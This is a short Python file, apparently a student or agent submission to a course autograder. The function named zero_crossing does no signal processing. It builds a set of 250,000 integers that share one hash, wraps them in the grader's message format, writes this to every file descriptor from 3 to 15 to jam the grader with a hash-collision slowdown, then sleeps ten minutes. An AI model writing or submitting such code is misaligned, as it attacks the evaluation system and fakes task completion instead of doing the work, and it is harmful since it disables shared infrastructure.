"""Sends a set whose members have one hash, so that making it takes hours."""

import json
import os
import time

from gsfusion_nb.course.grading.data import LENGTH

MEMBERS = {"set": [number * (2**61 - 1) for number in range(250_000)]}
HEAD = json.dumps({"value": {"dict": [["value", MEMBERS]]}, "sizes": []}).encode()
MESSAGE = LENGTH.pack(LENGTH.size + len(HEAD)) + LENGTH.pack(len(HEAD)) + HEAD


def zero_crossing(p0, p1, D0, D1):
    for descriptor in range(3, 16):
        rest = MESSAGE
        try:
            while rest:
                rest = rest[os.write(descriptor, rest) :]
        except OSError:
            continue
    time.sleep(600)
